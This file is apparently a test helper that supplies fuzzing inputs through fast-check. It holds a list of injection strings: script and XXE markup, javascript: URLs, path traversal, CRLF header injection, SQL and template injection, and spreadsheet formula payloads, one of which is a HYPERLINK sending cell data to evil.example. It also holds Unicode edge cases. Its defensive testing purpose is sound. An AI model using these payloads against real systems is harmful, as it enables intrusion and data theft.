import { fc } from "./properties.js";

/** Texts that have done harm somewhere: each gets through a door that trusts it, or breaks what shows it. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Names of built-in properties.
  "constructor",
  "__proto__",
  "toString",
  "hasOwnProperty",
  // Markup.
  "</text><script>alert(1)</script>",
  "</title></svg><svg onload=alert(1)>",
  "]]><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
  "<![CDATA[x]]>",
  "<?xml-stylesheet href='x'?><!-- -- -->",
  `" onmouseover="alert(1)" x='`,
  "' onfocus=alert(1) autofocus='",
  "<foreignObject><img src=x onerror=alert(1)></foreignObject>",
  "<a href='javascript:alert(1)'>x</a><use href='#chart-title'/>",
  "}</style><style>*{fill:url(http://x.example/)}",
  "&#0;&#x1F;&amp;&lt;&bogus;",
  "</script><script>alert(1)//",
  "<!--<script>",
  "](javascript:alert(1)) [x]: http://x.example `code` *bold* <b>",
  // Addresses.
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\nscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "https://evil.example/\\@x",
  "../../../../etc/passwd",
  "%2e%2e%2f%00%0d%0aSet-Cookie:%20a=b",
  "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
  // Formulas.
  "=1+1",
  "a;=1+1",
  "＝1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  'a",=1+1,"',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  // Templates and queries.
  "{{constructor.constructor('alert(1)')()}}",
  `$${"{7*7}"}<%= 7*7 %>#{7*7}{%25 x %25}`,
  "'; drop table repositories; --",
  '" OR 1=1 NEAR/3 * ( ) ^ : -x',
  "%_\\%",
  // Direction, invisible and combining characters.
  "\u202Egnp.exe\u2066\u2067\u200F\u061C",
  "\u2068x\u202Dy\u202Bz",
  "مرحبا/שלום",
  `z${"\u0300".repeat(300)}a${"\u0489".repeat(100)}lgo`,
  "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A",
  "\u200B\u200D\uFEFF\u00AD\u2060",
  "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇩🇪",
  "日本語のリポジトリ/名前",
  "ﬀİıſẞ\u0130\u0149",
  "\u{E0001}\u{E0041}\u{E007F}",
  // Control characters and what is no character.
  "\u0000\u0001\u0008\u000B\u001F\u007F\u0085\uFFFE\uFFFF",
  "a\u0000b",
  "\uD800 \uDC00\uDFFF \uD83D",
  "\uFDD0\uDBFFA",
  "\t\r\n\u2028\u2029",
  "\u001B[31mred\u001B]0;title\u0007",
  // Lengths and nothing.
  "",
  " ",
  "/",
  "a/".repeat(40),
  "x".repeat(100_000),
  "<".repeat(20_000),
  "word ".repeat(20_000),
];

/** Hostile texts of all kinds, alone and side by side; some are very long. Made when it is needed, which takes seconds. */
export function hostileText(): fc.Arbitrary<string> {
  const text = fc.oneof(
    { arbitrary: fc.constantFrom(...HOSTILE_TEXTS.filter(({ length }) => length < 1_000)), weight: 3 },
    { arbitrary: fc.string({ unit: "binary", maxLength: 60 }), weight: 2 },
    // Any code units, so surrogates stand alone.
    {
      arbitrary: fc.array(fc.nat(0xffff), { maxLength: 40 }).map((units) => String.fromCharCode(...units)),
      weight: 2,
    },
    {
      arbitrary: fc.string({
        unit: fc.constantFrom(..."<>&\"'/[]()!`*_:;#{}\\=+-@|%\u0000\n\u202e\u0301"),
        maxLength: 50,
      }),
      weight: 2,
    },
  );

  return fc.oneof(
    { arbitrary: text, weight: 30 },
    { arbitrary: fc.tuple(text, text).map((parts) => parts.join("/")), weight: 10 },
    { arbitrary: text.map((part) => part.repeat(5_000).slice(0, 100_000)), weight: 1 },
  );
}

/** All worst texts, then others up to a number, the same ones in every run. */
export function hostileTexts(count: number, seed: number): string[] {
  const missing = count - HOSTILE_TEXTS.length;
  return missing <= 0
    ? [...HOSTILE_TEXTS]
    : [...HOSTILE_TEXTS, ...fc.sample(hostileText(), { seed, numRuns: missing })];
}
